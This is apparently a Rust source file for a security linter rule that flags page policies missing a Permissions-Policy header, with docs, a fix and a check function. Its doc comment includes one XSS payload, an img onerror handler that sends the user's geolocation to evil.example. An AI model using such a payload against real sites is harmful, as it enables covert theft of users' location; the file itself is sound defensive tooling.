use crate::diagnostic::Diagnostic;
use crate::header::Field;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for a policy for pages without `permissions_policy`. The lint is off by default.
    ///
    /// # Why it matters
    ///
    /// A page, and every script in it, may request the camera, the microphone or the location. A page that uses none of
    /// them loses nothing if the policy denies them.
    ///
    /// # Attack
    ///
    /// An injected script requests the location. The browser asks the user, and its prompt names the site, which the user
    /// trusts:
    ///
    /// ```html
    /// <img src="x" onerror="navigator.geolocation.getCurrentPosition(p =>
    ///   fetch('https://evil.example/?' + p.coords.latitude + ',' + p.coords.longitude))">
    /// ```
    ///
    /// If the user has granted the permission to the site before, there is no prompt.
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { default_src: self },
    /// ```
    ///
    /// # Fix
    ///
    /// ```text
    /// content_security_policy: { default_src: self },
    /// permissions_policy: { camera: none, geolocation: none, microphone: none },
    /// ```
    ///
    /// Only Chromium reads the header. Firefox and Safari read the `allow` attribute of frames.
    ///
    /// # Allow
    ///
    /// Reasonable where the lint is switched on for a whole crate and these pages run no scripts.
    ///
    /// ```text
    /// #[allow(permissions_missing, reason = "static pages without scripts")]
    /// pub struct Shop { … }
    /// ```
    ///
    /// # References
    ///
    /// - [Permissions Policy](https://www.w3.org/TR/permissions-policy-1/)
    /// - [MDN, `Permissions-Policy`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Permissions-Policy)
    Allow "pages that may use the camera, the location and all other features" missing,
    cwe [250], asvs [],
    check
}
fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    if policy.serves_pages() && !policy.has(Field::PermissionsPolicy) && !policy.has(Field::FeaturePolicy) {
        report.push(
            Diagnostic::finding(policy.name, "`permissions_policy` is missing")
                .help("add `permissions_policy: { camera: none, geolocation: none, microphone: none }`")
                .note("an injected script can request the camera or the location, in a prompt that names this site"),
        );
    }
}
